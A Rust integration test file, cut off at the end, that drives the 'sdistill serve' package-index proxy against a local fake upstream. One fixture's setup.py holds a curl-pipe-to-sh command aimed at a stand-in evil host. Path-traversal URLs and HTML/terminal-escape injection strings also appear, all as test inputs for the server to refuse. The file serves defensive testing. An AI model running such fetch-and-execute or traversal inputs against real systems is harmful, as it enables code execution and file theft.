//! `sdistill serve` at the protocol level: a real server process in front of an upstream
//! index served by the test on 127.0.0.1, spoken to with a raw HTTP/1.1 client (so reason
//! phrases, truncated transfers and exact headers are visible).
//!
//! Covered: PEP 503 HTML and PEP 691 JSON pages by content negotiation, PEP 714 metadata
//! attributes, what the upstream said about each file kept (and escaped), metadata files
//! for wheels (upstream metadata file, the wheel's METADATA) and sdists (static, sandbox),
//! fail-closed refusals (status, reason phrase, a body no client reads as metadata, the
//! sdist's bytes withheld), streamed files checked against their sha256 (a mismatch breaks
//! the transfer), range requests, only listed files reachable, the access log, /health,
//! credentials never shown, a cache shared by two servers, graceful shutdown, and the file
//! cache's budget: clients that stop reading (`--send-timeout`), copies in use never
//! removed from under their readers, listed sizes checked, unlisted ones reserved as the
//! bytes arrive.

mod common;

use common::*;
use sha2::Digest;

const BIG: usize = 300 * 1024;

fn big_bytes(seed: u8) -> Vec<u8> {
    (0..BIG)
        .map(|i| (i as u8).wrapping_mul(31) ^ seed)
        .collect()
}

fn entry(project: &str, filename: &str, bytes: Vec<u8>) -> IndexEntry {
    IndexEntry::new(project, filename, bytes)
}

fn upstream_entries() -> Vec<IndexEntry> {
    let mut wheel = entry(
        "demo",
        "demo-1.0-py3-none-any.whl",
        wheel_bytes("demo", "1.0", "", &["requests>=2.0"]),
    );
    wheel.metadata = Some(
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: requests >= 2.0\nRequires-Dist: tomli ; python_version < \"3.11\"\nDescription: raw text\n\n body"
            .to_string(),
    );
    wheel.requires_python = Some(">=3.8".to_string());
    let mut old = entry(
        "demo",
        "demo-0.9.tar.gz",
        static_sdist_bytes("demo", "0.9", &[]),
    );
    old.yanked = true;
    vec![
        entry(
            "demo",
            "demo-1.0.tar.gz",
            static_sdist_bytes("demo", "1.0", &["requests>=2.0"]),
        ),
        wheel,
        old,
        entry(
            "dyn",
            "dyn-1.0.tar.gz",
            setup_py_sdist_bytes(
                "dyn",
                "1.0",
                "from setuptools import setup\nsetup(name='dyn', version='1.0', install_requires=['de' + 'mo>=1'], extras_require={'x': ['extra-dep']}, python_requires='>=3.8')\n",
            ),
        ),
        entry(
            "bad",
            "bad-1.0.tar.gz",
            setup_py_sdist_bytes(
                "bad",
                "1.0",
                "raise SystemExit('boom: needs a C compiler')\n",
            ),
        ),
        entry(
            "plainwheel",
            "plainwheel-1.0-py3-none-any.whl",
            wheel_bytes("plainwheel", "1.0", "", &["demo"]),
        ),
        // Build code that tries to fetch and run a script (refused in the sandbox), then
        // answers honestly: metadata, but a suspicious behaviour report.
        entry(
            "phonehome",
            "phonehome-1.0.tar.gz",
            setup_py_sdist_bytes(
                "phonehome",
                "1.0",
                "import os\nos.system('curl -s http://serve.evil.example | sh')\nfrom setuptools import setup\nsetup(name='phonehome', version='1.0')\n",
            ),
        ),
        entry("big", "big-1.0-py3-none-any.whl", big_bytes(1)),
        IndexEntry {
            advertised_sha256: Some("0".repeat(64)),
            ..entry("liar", "liar-1.0-py3-none-any.whl", b"small and wrong".to_vec())
        },
        IndexEntry {
            advertised_sha256: Some("0".repeat(64)),
            ..entry("bigliar", "bigliar-1.0-py3-none-any.whl", big_bytes(2))
        },
        // Served by file name for the JSON page below.
        entry(
            "jsonproj-files",
            "jsonproj-1.0.tar.gz",
            static_sdist_bytes("jsonproj", "1.0", &[]),
        ),
    ]
}

fn sha(bytes: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(bytes))
}

/// A PEP 691 upstream page with everything PEP 700 adds, and hostile text in it.
fn json_page(entries: &[IndexEntry]) -> RawPage {
    let file = entries
        .iter()
        .find(|e| e.filename == "jsonproj-1.0.tar.gz")
        .unwrap();
    let body = serde_json::json!({
        "meta": {"api-version": "1.1"},
        "name": "jsonproj",
        "files": [{
            "filename": "jsonproj-1.0.tar.gz",
            "url": "/files/jsonproj-1.0.tar.gz",
            "hashes": {"sha256": file.sha256()},
            "requires-python": ">=3.8\" onclick=\"x",
            "yanked": "<b>broken</b>\u{1b}[31m",
            "size": file.bytes.len(),
            "upload-time": "2020-02-02T02:02:02.000002Z",
        }]
    });
    RawPage {
        path: "/simple/jsonproj/".into(),
        content_type: "application/vnd.pypi.simple.v1+json",
        body: body.to_string().into_bytes(),
    }
}

fn root_list() -> RawPage {
    RawPage {
        path: "/simple/".into(),
        content_type: "text/html",
        body: b"<html><body><a href=\"demo/\">Demo</a><a href=\"dyn/\">dyn</a><a href=\"x/\">not a name!</a></body></html>".to_vec(),
    }
}

struct Fixture {
    upstream: IndexServer,
    entries: Vec<IndexEntry>,
    cache: tempfile::TempDir,
    runtime: String,
}

fn fixture() -> Fixture {
    let entries = upstream_entries();
    let upstream = IndexServer::start_with(entries.clone(), vec![json_page(&entries), root_list()]);
    let (cache, runtime) = private_cache();
    Fixture {
        upstream,
        entries,
        cache,
        runtime,
    }
}

impl Fixture {
    fn serve(&self, extra: &[&str]) -> ServeProcess {
        ServeProcess::in_front_of(
            &[&self.upstream.url],
            &self.runtime,
            self.cache.path(),
            extra,
        )
    }

    fn sha(&self, filename: &str) -> String {
        self.entries
            .iter()
            .find(|e| e.filename == filename)
            .map(|e| e.sha256())
            .unwrap()
    }

    fn bytes(&self, filename: &str) -> Vec<u8> {
        self.entries
            .iter()
            .find(|e| e.filename == filename)
            .unwrap()
            .bytes
            .clone()
    }

    fn path(&self, project: &str, filename: &str) -> String {
        format!("/files/{project}/{}/{filename}", self.sha(filename))
    }
}

const PIP_ACCEPT: &str = "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01";

#[test]
fn pages_in_both_forms_declare_metadata_for_every_file() {
    let fx = fixture();
    let srv = fx.serve(&[]);

    let html = get(&srv.addr, "/simple/demo/");
    assert_eq!(html.status, 200);
    assert_eq!(
        html.header("content-type"),
        Some("text/html; charset=utf-8")
    );
    assert_eq!(html.header("vary"), Some("Accept"));
    let text = html.text();
    for file in [
        "demo-1.0.tar.gz",
        "demo-1.0-py3-none-any.whl",
        "demo-0.9.tar.gz",
    ] {
        let href = format!(
            "href=\"../../files/demo/{0}/{file}#sha256={0}\"",
            fx.sha(file)
        );
        assert!(text.contains(&href), "{href} in {text}");
    }
    assert_eq!(
        text.matches("data-core-metadata=\"true\"").count(),
        3,
        "{text}"
    );
    assert_eq!(
        text.matches("data-dist-info-metadata=\"true\"").count(),
        3,
        "{text}"
    );
    assert!(text.contains("data-yanked=\"\""), "{text}");
    assert!(text.contains("data-requires-python=\"&gt;=3.8\""), "{text}");
    assert!(text.contains("<meta name=\"pypi:repository-version\" content=\"1.0\">"));
    assert!(
        !text.contains(&fx.upstream.url),
        "upstream URLs never reach clients: {text}"
    );

    let json = http(&srv.addr, "GET", "/simple/demo/", &[("Accept", PIP_ACCEPT)]);
    assert_eq!(
        json.header("content-type"),
        Some("application/vnd.pypi.simple.v1+json")
    );
    let doc: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(doc["name"], "demo");
    // The HTML upstream states no sizes, so the page is API 1.0 (sizes are mandatory in 1.1).
    assert_eq!(doc["meta"]["api-version"], "1.0");
    let files = doc["files"].as_array().unwrap();
    assert_eq!(files.len(), 3);
    for f in files {
        assert_eq!(f["core-metadata"], serde_json::json!(true), "{f}");
        assert_eq!(f["dist-info-metadata"], serde_json::json!(true), "{f}");
    }
    let old = files
        .iter()
        .find(|f| f["filename"] == "demo-0.9.tar.gz")
        .unwrap();
    assert_eq!(old["yanked"], serde_json::json!(true));

    // What a PEP 691 upstream says is kept, validated and escaped.
    let json = http(
        &srv.addr,
        "GET",
        "/simple/jsonproj/",
        &[("Accept", PIP_ACCEPT)],
    );
    let doc: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(doc["meta"]["api-version"], "1.1");
    assert_eq!(doc["versions"], serde_json::json!(["1.0"]));
    let f = &doc["files"][0];
    assert_eq!(f["size"], fx.bytes("jsonproj-1.0.tar.gz").len());
    assert_eq!(f["upload-time"], "2020-02-02T02:02:02.000002Z");
    assert_eq!(f["yanked"], "<b>broken</b> [31m");
    assert!(
        f.get("requires-python").is_none(),
        "not PEP 440: left out: {f}"
    );
    let html = get(&srv.addr, "/simple/jsonproj/").text();
    assert!(
        html.contains("data-yanked=\"&lt;b&gt;broken&lt;/b&gt; [31m\""),
        "{html}"
    );
    assert!(!html.contains("onclick"), "{html}");

    // Negotiation, redirects, unknown projects, the project list.
    let v1html = http(
        &srv.addr,
        "GET",
        "/simple/demo/",
        &[("Accept", "application/vnd.pypi.simple.v1+html")],
    );
    assert_eq!(
        v1html.header("content-type"),
        Some("application/vnd.pypi.simple.v1+html")
    );
    let none = http(
        &srv.addr,
        "GET",
        "/simple/demo/",
        &[("Accept", "application/json")],
    );
    assert_eq!(none.status, 406);
    let moved = get(&srv.addr, "/simple/Demo/");
    assert_eq!(
        (moved.status, moved.header("location")),
        (301, Some("../demo/"))
    );
    assert_eq!(
        get(&srv.addr, "/simple/demo").header("location"),
        Some("/simple/demo/")
    );
    assert_eq!(get(&srv.addr, "/simple/no-such-project/").status, 404);
    let list = http(&srv.addr, "GET", "/simple/", &[("Accept", PIP_ACCEPT)]);
    let doc: serde_json::Value = serde_json::from_slice(&list.body).unwrap();
    assert_eq!(
        doc["projects"],
        serde_json::json!([{"name": "demo"}, {"name": "dyn"}])
    );
    assert!(get(&srv.addr, "/simple/")
        .text()
        .contains("<a href=\"demo/\">demo</a>"));
}

#[test]
fn metadata_files_are_written_from_parsed_values() {
    let fx = fixture();
    let srv = fx.serve(&[]);

    // A wheel with an upstream metadata file: parsed and written anew field by field (its
    // description and body are not copied), each requirement as declared.
    let wheel = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("demo", "demo-1.0-py3-none-any.whl")),
    );
    assert_eq!(wheel.status, 200, "{}", wheel.text());
    assert_eq!(
        wheel.text(),
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: requests >= 2.0\nRequires-Dist: tomli ; python_version < \"3.11\"\n"
    );
    assert_eq!(wheel.header("x-sdistill-method"), Some("metadata-file"));

    // A wheel without one: its own METADATA.
    let plain = get(
        &srv.addr,
        &format!(
            "{}.metadata",
            fx.path("plainwheel", "plainwheel-1.0-py3-none-any.whl")
        ),
    );
    assert_eq!(plain.status, 200, "{}", plain.text());
    assert!(plain
        .text()
        .contains("Name: plainwheel\nVersion: 1.0\nRequires-Dist: demo\n"));
    assert_eq!(plain.header("x-sdistill-method"), Some("wheel"));

    // A static sdist, and a setup.py sdist answered by the sandbox.
    let static_sdist = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("demo", "demo-1.0.tar.gz")),
    );
    assert_eq!(static_sdist.header("x-sdistill-method"), Some("pkg-info"));
    assert!(static_sdist
        .text()
        .contains("Requires-Dist: requests>=2.0\n"));
    let dynamic = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz")),
    );
    assert_eq!(dynamic.status, 200, "{}", dynamic.text());
    assert_eq!(
        dynamic.header("x-sdistill-method"),
        Some("sandbox-egg-info")
    );
    assert_eq!(
        dynamic.text(),
        "Metadata-Version: 2.1\nName: dyn\nVersion: 1.0\nRequires-Python: >=3.8\nProvides-Extra: x\nRequires-Dist: demo>=1\nRequires-Dist: extra-dep; extra == \"x\"\n"
    );

    // Now that the server has them, pages declare their sha256 (PEP 714), and it is the
    // sha256 of what it serves; an ETag lets clients revalidate.
    let page = get(&srv.addr, "/simple/dyn/").text();
    let declared = format!("data-core-metadata=\"sha256={}\"", sha(&dynamic.body));
    assert!(page.contains(&declared), "{declared} in {page}");
    let etag = dynamic.header("etag").unwrap().to_string();
    let again = http(
        &srv.addr,
        "GET",
        &format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz")),
        &[("If-None-Match", &etag)],
    );
    assert_eq!(again.status, 304);
    srv.wait_for_log("dyn-1.0.tar.gz.metadata\" 200");
}

#[test]
fn an_sdist_sdistill_cannot_answer_for_is_refused_everywhere() {
    let fx = fixture();
    let srv = fx.serve(&[]);
    let meta = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("bad", "bad-1.0.tar.gz")),
    );
    // 422: every client stops on it (pip shows the reason phrase), none retries it.
    assert_eq!(meta.status, 422, "{meta:?}");
    assert!(
        meta.reason
            .starts_with("sdistill cannot answer for bad-1.0.tar.gz (setup-failed): setup failed inside the sandbox"),
        "{}",
        meta.reason
    );
    assert!(
        meta.reason.contains("boom: needs a C compiler"),
        "{}",
        meta.reason
    );
    assert_eq!(meta.header("x-sdistill-error"), Some("setup-failed"));
    // A client that ignores the status (PDM) and parses the body finds a requirement
    // that no parser accepts, not "no dependencies".
    let body = meta.text();
    assert!(body.starts_with("Metadata-Version: 2.1\nName: bad\nVersion: 1.0\nRequires-Dist: !sdistill cannot answer"), "{body}");
    // Its bytes are withheld, so no client can build it instead.
    let file = get(&srv.addr, &fx.path("bad", "bad-1.0.tar.gz"));
    assert_eq!(file.status, 422);
    assert!(file.reason.contains("bad-1.0.tar.gz"), "{}", file.reason);
    // The refusal is remembered, not recomputed for every client.
    let again = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("bad", "bad-1.0.tar.gz")),
    );
    assert_eq!(again.status, 422);
    assert_eq!(
        srv.log()
            .iter()
            .filter(|l| l.contains("cannot answer for bad-1.0.tar.gz"))
            .count(),
        1,
        "{:#?}",
        srv.log()
    );
    // A metadata URL of a file nobody lists is refused too, never a 404.
    let unlisted = get(
        &srv.addr,
        &format!("/files/demo/{}/demo-2.0.tar.gz.metadata", "a".repeat(64)),
    );
    assert_eq!(unlisted.status, 422);
    assert_eq!(unlisted.header("x-sdistill-error"), Some("not-listed"));
    // One failing sdist does not affect another.
    let good = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz")),
    );
    assert_eq!(good.status, 200);
    let line = srv.wait_for_log("bad-1.0.tar.gz.metadata\" 422");
    assert!(
        line.contains("refused bad-1.0.tar.gz (setup-failed)"),
        "{line}"
    );
}

/// `--fail-on suspicious`: an sdist whose build code tried something suspicious gets no
/// metadata and no bytes (clients stop, naming it and what it tried); without the flag the
/// same sdist is served, and an honest one is served either way.
#[test]
fn fail_on_holds_back_an_sdist_whose_build_code_phoned_home() {
    let fx = fixture();
    let path = format!("{}.metadata", fx.path("phonehome", "phonehome-1.0.tar.gz"));
    let open = fx.serve(&[]);
    assert_eq!(get(&open.addr, &path).status, 200);
    drop(open);
    // The answer (and its report) now comes from the metadata cache: gated all the same.
    let gated = fx.serve(&["--fail-on", "suspicious"]);
    let meta = get(&gated.addr, &path);
    assert_eq!(meta.status, 422, "{meta:?}");
    assert_eq!(meta.header("x-sdistill-error"), Some("gate:suspicious"));
    assert!(
        meta.reason.contains("phonehome-1.0.tar.gz") && meta.reason.contains("suspicious"),
        "{}",
        meta.reason
    );
    let file = get(&gated.addr, &fx.path("phonehome", "phonehome-1.0.tar.gz"));
    assert_eq!(file.status, 422);
    let honest = get(
        &gated.addr,
        &format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz")),
    );
    assert_eq!(honest.status, 200);
}

#[test]
fn sdist_downloads_never_serves_metadata_only() {
    let fx = fixture();
    let srv = fx.serve(&["--sdist-downloads", "never"]);
    let file = get(&srv.addr, &fx.path("demo", "demo-1.0.tar.gz"));
    assert_eq!(file.status, 422);
    assert!(
        file.reason.contains("--sdist-downloads never"),
        "{}",
        file.reason
    );
    let meta = get(
        &srv.addr,
        &format!("{}.metadata", fx.path("demo", "demo-1.0.tar.gz")),
    );
    assert_eq!(meta.status, 200);
    let wheel = get(&srv.addr, &fx.path("demo", "demo-1.0-py3-none-any.whl"));
    assert_eq!(wheel.status, 200);
    assert_eq!(wheel.body, fx.bytes("demo-1.0-py3-none-any.whl"));
}

#[test]
fn files_are_checked_against_their_sha256_as_they_stream() {
    let fx = fixture();
    let srv = fx.serve(&[]);
    // A good file, larger than the two chunks checked before a response starts.
    let big = get(&srv.addr, &fx.path("big", "big-1.0-py3-none-any.whl"));
    assert_eq!(big.status, 200);
    assert!(big.complete);
    assert_eq!(big.body, fx.bytes("big-1.0-py3-none-any.whl"));
    assert_eq!(big.header("content-length"), Some(BIG.to_string().as_str()));
    assert_eq!(
        big.header("etag"),
        Some(format!("\"{}\"", fx.sha("big-1.0-py3-none-any.whl")).as_str())
    );
    srv.wait_for_log("big-1.0-py3-none-any.whl\" 200 307200B");
    // The second time it comes from the cache, checked again.
    let again = get(&srv.addr, &fx.path("big", "big-1.0-py3-none-any.whl"));
    assert_eq!(again.body, big.body);
    srv.wait_for_log("file from cache");

    // A large file that does not match: the transfer breaks before its last chunk.
    let bad = get(
        &srv.addr,
        &format!(
            "/files/bigliar/{}/bigliar-1.0-py3-none-any.whl",
            "0".repeat(64)
        ),
    );
    assert_eq!(
        bad.status, 200,
        "the response started before the end was known"
    );
    assert!(!bad.complete, "a mismatching file must never arrive whole");
    assert!(bad.body.len() < BIG);
    assert_eq!(
        bad.body,
        fx.bytes("bigliar-1.0-py3-none-any.whl")[..bad.body.len()]
    );
    let line = srv.wait_for_log("bigliar-1.0-py3-none-any.whl\" 200");
    assert!(line.contains("broken"), "{line}");
    // A small one is checked before the response starts: a proper error.
    let small = get(
        &srv.addr,
        &format!("/files/liar/{}/liar-1.0-py3-none-any.whl", "0".repeat(64)),
    );
    assert_eq!(small.status, 502);
    assert!(small.text().contains("sha256 mismatch"), "{}", small.text());
    assert!(
        !small.text().contains("127.0.0.1"),
        "no upstream URL: {}",
        small.text()
    );
    // Neither landed in the cache.
    let files = fx.cache.path().join("files").join("0".repeat(64));
    let kept: Vec<String> = std::fs::read_dir(&files)
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(kept.is_empty(), "{kept:?}");

    // An sdist's bytes, once answered for.
    let sdist = get(&srv.addr, &fx.path("dyn", "dyn-1.0.tar.gz"));
    assert_eq!(sdist.status, 200);
    assert_eq!(sdist.body, fx.bytes("dyn-1.0.tar.gz"));
}

#[test]
fn range_requests_come_from_a_verified_copy() {
    let fx = fixture();
    let srv = fx.serve(&[]);
    let path = fx.path("big", "big-1.0-py3-none-any.whl");
    let whole = fx.bytes("big-1.0-py3-none-any.whl");
    let part = http(&srv.addr, "GET", &path, &[("Range", "bytes=10-19")]);
    assert_eq!(part.status, 206);
    assert_eq!(part.body, whole[10..20]);
    assert_eq!(
        part.header("content-range"),
        Some(format!("bytes 10-19/{BIG}").as_str())
    );
    let tail = http(&srv.addr, "GET", &path, &[("Range", "bytes=-5")]);
    assert_eq!(tail.body, whole[BIG - 5..]);
    let beyond = http(
        &srv.addr,
        "GET",
        &path,
        &[("Range", format!("bytes={BIG}-").as_str())],
    );
    assert_eq!(beyond.status, 416);
    let stale = http(
        &srv.addr,
        "GET",
        &path,
        &[("Range", "bytes=0-1"), ("If-Range", "\"not-this-file\"")],
    );
    assert_eq!((stale.status, stale.body.len()), (200, BIG));
    // A mismatching file is never served in part either.
    let liar = http(
        &srv.addr,
        "GET",
        &format!(
            "/files/bigliar/{}/bigliar-1.0-py3-none-any.whl",
            "0".repeat(64)
        ),
        &[("Range", "bytes=0-9")],
    );
    assert_eq!(liar.status, 502);
    let head = http(&srv.addr, "HEAD", &path, &[]);
    assert_eq!(head.status, 200);
    assert_eq!(head.header("accept-ranges"), Some("bytes"));
}

/// The names of the copies kept in the file cache.
fn kept_copies(cache: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for dir in std::fs::read_dir(cache.join("files")).into_iter().flatten() {
        for file in std::fs::read_dir(dir.unwrap().path()).into_iter().flatten() {
            let name = file.unwrap().file_name().to_string_lossy().into_owned();
            if !name.starts_with('.') {
                out.push(name);
            }
        }
    }
    out.sort();
    out
}

#[test]
fn kept_copies_stay_within_max_cache_size() {
    // An upstream that lists sizes (PEP 700), as PyPI does.
    let entries = vec![
        entry("big", "big-1.0-py3-none-any.whl", big_bytes(1)),
        entry("big", "big-2.0-py3-none-any.whl", big_bytes(3)),
    ];
    let upstream = IndexServer::start_json(entries.clone());
    let (cache, runtime) = private_cache();
    let serve =
        |extra: &[&str]| ServeProcess::in_front_of(&[&upstream.url], &runtime, cache.path(), extra);
    let path = |e: &IndexEntry| format!("/files/big/{}/{}", e.sha256(), e.filename);
    let (one, two) = (&entries[0], &entries[1]);

    // Room for one big file, not two.
    let srv = serve(&["--max-cache-size", "400KiB"]);
    assert_eq!(get(&srv.addr, &path(one)).body, one.bytes);
    srv.wait_for_log("big-1.0-py3-none-any.whl\" 200");
    assert_eq!(kept_copies(cache.path()), ["big-1.0-py3-none-any.whl"]);
    // The second takes the first one's place: the least recently used goes.
    assert_eq!(get(&srv.addr, &path(two)).body, two.bytes);
    srv.wait_for_log("big-2.0-py3-none-any.whl\" 200");
    srv.wait_for_log("removed the 1 least recently used copies");
    assert_eq!(kept_copies(cache.path()), ["big-2.0-py3-none-any.whl"]);
    // A range request needs a copy: made in the same budget.
    let part = http(&srv.addr, "GET", &path(one), &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 206);
    assert_eq!(part.body, one.bytes[..10]);
    assert_eq!(kept_copies(cache.path()), ["big-1.0-py3-none-any.whl"]);
    drop(srv);

    // A budget smaller than a file: it is still served, never kept; a range request,
    // which needs a copy, is refused as a full cache (503: it may pass).
    let small = serve(&["--max-cache-size", "100KiB"]);
    assert_eq!(get(&small.addr, &path(two)).body, two.bytes);
    let part = http(&small.addr, "GET", &path(two), &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 503, "{}", part.text());
    assert!(part.text().contains("--max-cache-size"), "{}", part.text());
    assert_eq!(kept_copies(cache.path()), ["big-1.0-py3-none-any.whl"]);
}

#[test]
fn only_files_an_upstream_lists_are_reachable() {
    let fx = fixture();
    let srv = fx.serve(&[]);
    let sha = fx.sha("demo-1.0.tar.gz");
    for path in [
        format!("/files/demo/{sha}/evil-1.0.tar.gz"),
        format!("/files/demo/{}/demo-1.0.tar.gz", "b".repeat(64)),
        format!("/files/other/{sha}/demo-1.0.tar.gz"),
        format!("/files/Demo/{sha}/demo-1.0.tar.gz"),
        format!("/files/demo/{sha}/..%2F..%2Fetc%2Fpasswd"),
        "/files/demo/../../etc/passwd".to_string(),
        "/files/demo/xyz/demo-1.0.tar.gz".to_string(),
        "/files/http%3A%2F%2F127.0.0.1%2F/x/y".to_string(),
        "/etc/passwd".to_string(),
    ] {
        let r = get(&srv.addr, &path);
        assert_eq!(r.status, 404, "{path}: {r:?}");
    }
    let post = http(&srv.addr, "POST", &fx.path("demo", "demo-1.0.tar.gz"), &[]);
    assert_eq!(post.status, 405);
    let huge = http(
        &srv.addr,
        "GET",
        "/simple/demo/",
        &[("X-Padding", &"a".repeat(64 * 1024))],
    );
    assert_eq!(huge.status, 431);
}

#[test]
fn health_access_log_and_credentials() {
    let fx = fixture();
    let upstream = fx
        .upstream
        .url
        .replace("http://", "http://__token__:s3cr3t-upstream@");
    let srv = ServeProcess::in_front_of(&[&upstream], &fx.runtime, fx.cache.path(), &[]);
    let health = get(&srv.addr, "/health");
    assert_eq!(health.status, 200);
    let doc: serde_json::Value = serde_json::from_slice(&health.body).unwrap();
    assert_eq!(doc["status"], "ok");
    assert!(!health.text().contains("s3cr3t"), "{}", health.text());
    assert!(
        health.text().contains("__token__:****@"),
        "{}",
        health.text()
    );
    let page = get(&srv.addr, "/simple/demo/");
    assert_eq!(page.status, 200);
    // A request line with an escape sequence percent-encoded, and a query.
    let odd = get(&srv.addr, "/simple/%1b%5b31m/?x=%0aFAKE");
    assert_eq!(odd.status, 404);
    srv.wait_for_log("\"GET /simple/demo/\" 200");
    let line = srv.wait_for_log("\"GET /simple/%1b%5b31m/?x=%0aFAKE\" 404");
    assert!(line.starts_with("sdistill: ACCESS 127.0.0.1:"), "{line}");
    let log = srv.log().join("\n");
    assert!(!log.contains("s3cr3t"), "{log}");
    assert!(!log.contains('\u{1b}'), "{log}");
    assert_eq!(
        srv.log().iter().filter(|l| l.contains("ACCESS")).count(),
        3,
        "one line per request: {log}"
    );
}

#[test]
fn servers_sharing_a_cache_compute_each_sdist_once() {
    let fx = fixture();
    let path = format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz"));
    let first = fx.serve(&[]);
    let a = get(&first.addr, &path);
    assert_eq!(a.header("x-sdistill-cached"), Some("false"));
    let second = fx.serve(&[]);
    let b = get(&second.addr, &path);
    assert_eq!(b.status, 200);
    assert_eq!(b.header("x-sdistill-cached"), Some("true"));
    assert_eq!(a.body, b.body);
    // The second server answered from the cache by the listed sha256: no download.
    let log = second.log().join("\n");
    assert!(!log.contains("file from upstream"), "{log}");
}

#[test]
fn concurrent_clients_share_one_computation() {
    let fx = fixture();
    let srv = fx.serve(&["--jobs", "1"]);
    let path = format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz"));
    let bad = format!("{}.metadata", fx.path("bad", "bad-1.0.tar.gz"));
    let results: Vec<HttpResponse> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..16)
            .map(|i| {
                let addr = srv.addr.clone();
                let p = if i % 4 == 3 {
                    bad.clone()
                } else {
                    path.clone()
                };
                s.spawn(move || get(&addr, &p))
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for (i, r) in results.iter().enumerate() {
        let want = if i % 4 == 3 { 422 } else { 200 };
        assert_eq!(r.status, want, "{i}: {r:?}");
    }
    // Access-log lines are written as responses end: wait for all sixteen.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while srv.log().iter().filter(|l| l.contains("ACCESS")).count() < 16 {
        assert!(std::time::Instant::now() < deadline, "{:#?}", srv.log());
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let bodies: std::collections::BTreeSet<_> = results
        .iter()
        .filter(|r| r.status == 200)
        .map(|r| r.body.clone())
        .collect();
    assert_eq!(bodies.len(), 1);
    let log = srv.log().join("\n");
    assert_eq!(
        log.matches("cannot answer for bad-1.0.tar.gz").count(),
        1,
        "{log}"
    );
    // One computation; every other request joined it or found it in memory.
    let computed = srv
        .log()
        .iter()
        .filter(|l| {
            l.contains("dyn-1.0.tar.gz.metadata\" 200") && l.ends_with("metadata sandbox-egg-info")
        })
        .count();
    assert_eq!(computed, 1, "{log}");
}

#[test]
fn sigterm_drains_requests_in_progress() {
    let fx = fixture();
    let mut srv = fx.serve(&[]);
    let path = format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz"));
    let addr = srv.addr.clone();
    let in_flight = std::thread::spawn(move || get(&addr, &path));
    // The request is in progress once the server has fetched the page for it.
    std::thread::sleep(std::time::Duration::from_millis(150));
    srv.signal(rustix::process::Signal::TERM);
    let response = in_flight.join().unwrap();
    assert_eq!(response.status, 200, "{response:?}");
    let status = srv.wait(60);
    assert!(status.success(), "{status:?}: {}", srv.log().join("\n"));
    let log = srv.log().join("\n");
    assert!(log.contains("shutting down"), "{log}");
    assert!(
        std::net::TcpStream::connect(&srv.addr).is_err(),
        "still listening"
    );
}

#[test]
fn several_upstreams_merge_like_lock_and_a_failing_one_fails_the_page() {
    let first = IndexServer::start(vec![entry(
        "demo",
        "demo-1.0.tar.gz",
        static_sdist_bytes("demo", "1.0", &["from-first"]),
    )]);
    let second_entries = vec![
        entry(
            "demo",
            "demo-1.0.tar.gz",
            static_sdist_bytes("demo", "1.0", &["from-second"]),
        ),
        entry(
            "demo",
            "demo-2.0.tar.gz",
            static_sdist_bytes("demo", "2.0", &[]),
        ),
    ];
    let second = IndexServer::start(second_entries.clone());
    let (cache, runtime) = private_cache();
    let srv = ServeProcess::in_front_of(
        &[&first.url, &second.url],
        &runtime,
        cache.path(),
        &["--page-ttl", "0"],
    );
    let json = http(&srv.addr, "GET", "/simple/demo/", &[("Accept", PIP_ACCEPT)]);
    let doc: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    let files: Vec<(String, String)> = doc["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["filename"].as_str().unwrap().to_string(),
                f["hashes"]["sha256"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let first_sha = sha(&static_sdist_bytes("demo", "1.0", &["from-first"]));
    assert_eq!(
        files,
        [
            ("demo-1.0.tar.gz".to_string(), first_sha.clone()),
            ("demo-2.0.tar.gz".to_string(), second_entries[1].sha256()),
        ]
    );
    let meta = get(
        &srv.addr,
        &format!("/files/demo/{first_sha}/demo-1.0.tar.gz.metadata"),
    );
    assert!(
        meta.text().contains("Requires-Dist: from-first"),
        "{}",
        meta.text()
    );
    // The shadowed file of the second upstream is not reachable.
    let shadowed = get(
        &srv.addr,
        &format!("/files/demo/{}/demo-1.0.tar.gz", second_entries[0].sha256()),
    );
    assert_eq!(shadowed.status, 404);
    // An upstream that fails makes the page fail, never a smaller page.
    drop(second);
    let failed = get(&srv.addr, "/simple/demo/");
    assert_eq!(failed.status, 502, "{failed:?}");
    assert!(!failed.text().contains("127.0.0.1"), "{}", failed.text());
}

const MIB: usize = 1024 * 1024;

/// A file of `mib` MiB that does not compress (nothing in the path compresses, but the
/// bytes are distinct per seed).
fn large_bytes(seed: u8, mib: usize) -> Vec<u8> {
    let mut x = u64::from(seed).wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..mib * MIB)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

/// A client that sends a request and then never reads: the server's writes to it block
/// once the socket buffers are full (8 MiB is more than they hold on loopback).
fn stalled_request(addr: &str, path: &str, range: Option<&str>) -> std::net::TcpStream {
    use std::io::Write;
